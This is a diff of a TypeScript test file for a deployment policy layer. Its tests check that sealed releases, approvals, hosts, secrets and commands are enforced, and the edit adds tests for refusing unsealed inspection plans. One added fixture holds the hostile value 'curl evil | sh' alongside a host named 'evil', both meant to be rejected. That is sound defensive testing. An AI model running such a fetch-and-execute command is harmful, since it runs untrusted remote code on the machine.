@@ -29,7 +29,7 @@ let earlier: SealedRelease;
 let ofAnotherPipeline: SealedRelease;
 
 beforeAll(async () => {
-  release = await givenSealedRelease(keys.ours);
+  release = await givenSealedRelease(keys.ours, { policy: { rules: [] } });
   forged = await givenSealedRelease(keys.foreign);
   stage = await givenSealedRelease(keys.ours, { name: 'stage' });
   earlier = await givenSealedRelease(keys.ours, { version: 'v0.9.0' });
@@ -70,6 +70,8 @@ const words = (change: Partial<Target> = {}, prior = release.prior): Words => ({
   prior,
 });
 
+const without = ({ seal: _seal, ...rest }: Target['plan']): Target['plan'] => rest;
+
 describe('activities that change the world', () => {
   test('are all in the table, and must be shown something', () => {
     expect(CHANGES_THE_WORLD.length).toBeGreaterThan(8);
@@ -87,7 +89,6 @@ describe('activities that change the world', () => {
     expect(await call(name, INPUTS[name]?.(words({ live })))).toBe(true);
   });
 
-  const without = ({ seal: _seal, ...rest }: Target['plan']): Target['plan'] => rest;
   const ATTACKS: [string, () => Partial<Target>, RegExp][] = [
     ['no seal', () => ({ plan: without(release.environment) }), /the plan has no seal/],
     [
@@ -282,6 +283,35 @@ describe('activities that change the world', () => {
 });
 
 describe('the policy of the moment', () => {
+  test('runs and resolves nothing that only a stranger names, to look', async () => {
+    const doctor = { what: 'doctor', step: null, host: null, lines: 1, live: null };
+    const look = (change: Partial<Target['plan']>, what = 'doctor') => ({
+      ...doctor,
+      what,
+      plan: {
+        ...without(release.environment),
+        platform: { kind: 'swarm', service: 'shop', fields: {} },
+        traffic: null,
+        ...change,
+      },
+    });
+    const ask = (input: unknown) => refusalOf('inspectEnvironment', input, policyOf());
+    const commands = { kind: 'command', restore: null, retire: null, on: 'worker' } as const;
+    const platform = { ...commands, command: 'id', inspect: 'curl evil | sh' };
+    expect(await ask(look({ platform }))).toMatch(/command id is not allowed/);
+    expect(await ask(look({ secrets: { A: 'env:PROD_A' } }))).toMatch(/secret env:PROD_A is not allowed/);
+    expect(await ask(look({}, 'logs'))).toMatch(/the plan has no seal/);
+    expect(await ask({ ...doctor, plan: { ...release.environment, platform } })).toMatch(/changed after/);
+    expect(await call('inspectEnvironment', look({}), policyOf())).toBe(true);
+  });
+
+  test('refuses what was planned before there was one, with its word for who approved', async () => {
+    const before = await givenSealedRelease(keys.ours);
+    const { target, prior } = before;
+    expect(await refusalOf('deploy', { target, prior }, policyOf())).toMatch(/has become stricter/);
+    expect(await call('undoDeploy', { target, prior }, policyOf())).toBe(true);
+  });
+
   const back = WAY_BACK_NAMES;
   const stricter: [string, string, RegExp][] = [
     ['more approvals', 'approvals: [{count: 1, by: unverified}]', /policy has become stricter/],
@@ -308,9 +338,14 @@ describe('the policy of the moment', () => {
     const look = { what: 'doctor', plan, step: null, host: null, lines: 1, live: null };
     expect(await call('inspectEnvironment', look, policyOf())).toBe(true);
     expect(await call('inspectEnvironment', look)).toBe(true);
-    const evil = { ...look, plan: { ...plan, hosts: [{ name: 'evil', address: 'evil' }] } };
+    const unsealed = (change: Partial<Target['plan']>, what = 'doctor') => ({
+      ...look,
+      what,
+      plan: { ...without(plan), ...change },
+    });
+    const evil = unsealed({ hosts: [{ name: 'evil', address: 'evil' }] });
     expect(await refusalOf('inspectEnvironment', evil, policyOf())).toMatch(/host evil is not allowed/);
-    const strange = { ...look, plan: { ...plan, name: 'prod2' } };
+    const strange = unsealed({ name: 'prod2' });
     expect(await refusalOf('inspectEnvironment', strange, policyOf())).toMatch(/no such environment/);
     const asked = { commit: 'a'.repeat(40), candidates: [] };
     expect(await call('listAncestors', { ...asked, repositoryUrl: '/srv/shop.git' }, policyOf())).toBe(true);
